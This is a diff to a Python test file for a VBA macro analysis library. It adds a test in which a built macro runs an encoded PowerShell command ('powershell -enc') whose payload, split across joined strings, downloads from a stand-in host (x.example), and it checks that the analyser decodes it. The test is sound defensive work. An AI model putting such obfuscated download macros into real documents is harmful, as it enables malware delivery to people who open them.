@@ -1,5 +1,7 @@
 """Macros: sources by the project's directory, in its code page, and without a directory; the compiled form too."""
 
+import base64
+
 import pytest
 from office_files import read_ole, spot_of, texts, vba_literal, vba_project, word_97
 
@@ -18,6 +20,13 @@ def test_the_source_of_each_module_is_told_by_its_name(where: tuple[str, ...]) -
     assert spot_of(found, "Sub AutoOpen()") == "VBA Module1"
     assert spot_of(found, '"http://macro.example.net/a"') == "VBA Module1, strings joined"
     assert "http://in-p-code.example.net/" in texts(found)
+
+
+def test_an_encoded_command_is_decoded() -> None:
+    command = base64.b64encode("iwr https://x.example/a".encode("utf-16-le"))
+    source = b'Attribute VB_Name = "M"\r\nShell "powershell -enc " & "' + command[:20] + b'" & "' + command[20:] + b'"'
+    found = read_ole(vba_project({"Module1": source}))
+    assert spot_of(found, "iwr https://x.example/a") == "VBA Module1, decoded"
 
 
 def test_the_source_is_in_the_code_page_of_the_project() -> None:
